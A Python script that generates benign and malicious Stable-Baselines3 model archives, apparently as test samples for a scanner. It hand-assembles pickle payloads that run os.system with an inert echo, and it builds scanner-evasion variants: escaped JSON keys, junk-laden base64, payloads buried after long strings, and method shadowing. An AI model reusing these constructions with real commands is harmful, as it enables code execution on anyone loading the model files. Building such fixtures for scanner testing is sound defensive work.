#!/usr/bin/python3
"""Writes Stable-Baselines model archives whose "data" member carries
":serialized:" values as stable-baselines3's data_to_json writes them
(base64 of a cloudpickle stream), for the stable-baselines layout:

  benign/sb3_plain_data.zip           only plain JSON values, nothing to unpickle
  benign/sb3_ppo_2_7.zip              what stable-baselines3 2.7 writes for PPO: its policy and buffer classes
                                      by reference, FloatSchedule(ConstantSchedule(x)) schedules
  benign/sb3_ppo_relu.zip             the same with policy_kwargs naming torch's ReLU, which data_to_json cloudpickles
  malicious/sb3_foreign_policy.zip    policy_class a class loading would instantiate that is not SB3's (MG841)
  malicious/sb3_policy_class.zip      policy_class unpickles to os.system("echo pwned")
  malicious/sb3_escaped_key.zip       the key spelled with JSON escapes, which json.loads decodes
  malicious/sb3_base64_junk.zip       base64 with bytes b64decode skips and data after the padding
  malicious/sb3_nested_schedule.zip   the payload under lr_schedule, after a long plain string
  malicious/sb3_shadowed_method.zip   _setup_model, a method load calls, replaced by a class the data names (MG841)

The payload pickles are assembled from opcodes (an inert echo); nothing here
is unpickled. Standard library only: /usr/bin/python3 make_samples.py
"""
import base64
import json
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def payload(command):
    """pickle protocol 4 of os.system(command), as cloudpickle.dumps of a __reduce__ payload writes it."""
    body = (b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(command)]) + command.encode()
            + b"\x94\x85\x94R\x94.")
    return b"\x80\x04\x95" + len(body).to_bytes(8, "little") + body


# 49 bytes: its base64 ends in padding, after which b64decode ignores the rest.
PAYLOAD = payload("echo pwned!")


def archive(kind, name, data_text):
    with zipfile.ZipFile(os.path.join(HERE, kind, name), "w") as z:
        for member, text in (("data", data_text), ("_stable_baselines3_version", "2.3.2"),
                             ("system_info.txt", "- OS: Linux\n- Python: 3.11\n")):
            # A fixed time, so that a rerun writes the same bytes.
            z.writestr(zipfile.ZipInfo(member, date_time=(2026, 1, 1, 0, 0, 0)), text)


def reference(module, name):
    """cloudpickle.dumps of a class importable by name: protocol 5, a STACK_GLOBAL."""
    body = s(module) + b"\x94" + s(name) + b"\x94\x93\x94."
    return b"\x80\x05\x95" + len(body).to_bytes(8, "little") + body


def s(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def constant_schedule(value):
    """cloudpickle.dumps(FloatSchedule(ConstantSchedule(value))) as stable-baselines3 2.7 writes it."""
    import struct
    body = (s("stable_baselines3.common.utils") + b"\x94" + s("FloatSchedule") + b"\x94\x93\x94)\x81\x94}\x94"
            + s("value_schedule") + b"\x94h\x00" + s("ConstantSchedule") + b"\x94\x93\x94)\x81\x94}\x94"
            + s("val") + b"\x94G" + struct.pack(">d", value) + b"sbsb.")
    return b"\x80\x05\x95" + len(body).to_bytes(8, "little") + body


def main():
    b64 = base64.b64encode(PAYLOAD).decode()
    plain = {"learning_rate": 0.0003, "n_steps": 2048, "gamma": 0.99, "verbose": 1, "seed": None}
    archive("benign", "sb3_plain_data.zip", json.dumps(plain, indent=4))

    data = dict(plain, policy_class={":type:": "<class 'abc.ABCMeta'>", ":serialized:": b64,
                                     "__module__": "stable_baselines3.common.policies"})
    archive("malicious", "sb3_policy_class.zip", json.dumps(data, indent=4))

    text = '{"policy_class": {":type:": "<class \'abc.ABCMeta\'>", "\\u003aserialized\\u003a": "%s"}}' % b64
    assert json.loads(text)["policy_class"][":serialized:"] == b64
    archive("malicious", "sb3_escaped_key.zip", text)

    junk = "!".join(b64[i:i + 4] for i in range(0, len(b64), 4))
    junk = junk.rstrip("=") + "=" * (-len(b64.rstrip("=")) % 4) + "AAAA#not-data"
    assert base64.b64decode(junk.encode()) == PAYLOAD
    archive("malicious", "sb3_base64_junk.zip", json.dumps({"policy_class": {":serialized:": junk}}))

    def ser(raw, type_="<class 'abc.ABCMeta'>"):
        return {":type:": type_, ":serialized:": base64.b64encode(raw).decode()}

    ppo = dict(plain, policy_class=ser(reference("stable_baselines3.common.policies", "ActorCriticPolicy")),
               policy_kwargs={}, rollout_buffer_class=ser(reference("stable_baselines3.common.buffers", "RolloutBuffer")),
               lr_schedule=ser(constant_schedule(0.0003), "<class 'stable_baselines3.common.utils.FloatSchedule'>"),
               clip_range=ser(constant_schedule(0.2), "<class 'stable_baselines3.common.utils.FloatSchedule'>"))
    archive("benign", "sb3_ppo_2_7.zip", json.dumps(ppo, indent=4))
    # policy_kwargs=dict(activation_fn=nn.ReLU, net_arch=[64, 64]): not JSON, so cloudpickled.
    kwargs = (b"}\x94(" + s("activation_fn") + b"\x94" + s("torch.nn.modules.activation") + b"\x94" + s("ReLU")
              + b"\x94\x93\x94" + s("net_arch") + b"\x94]\x94(K@K@eu.")
    kwargs = b"\x80\x05\x95" + len(kwargs).to_bytes(8, "little") + kwargs
    archive("benign", "sb3_ppo_relu.zip", json.dumps(dict(ppo, policy_kwargs=ser(kwargs, "<class 'dict'>")), indent=4))
    foreign = dict(ppo, policy_class=ser(reference("collections", "OrderedDict")))
    archive("malicious", "sb3_foreign_policy.zip", json.dumps(foreign, indent=4))

    # load copies every data key onto the model (model.__dict__.update(data)) before it calls
    # model._setup_model(): this key replaces the method, and loading calls the class it holds.
    shadowed = dict(ppo, _setup_model=ser(reference("stable_baselines3.common.policies", "ActorCriticPolicy")))
    archive("malicious", "sb3_shadowed_method.zip", json.dumps(shadowed, indent=4))

    long_plain = "x" * 100_000
    data = dict(plain, observation_space={":type:": "str", "description": long_plain},
                lr_schedule={":type:": "<class 'function'>", ":serialized:": b64})
    archive("malicious", "sb3_nested_schedule.zip", json.dumps(data))


if __name__ == "__main__":
    main()
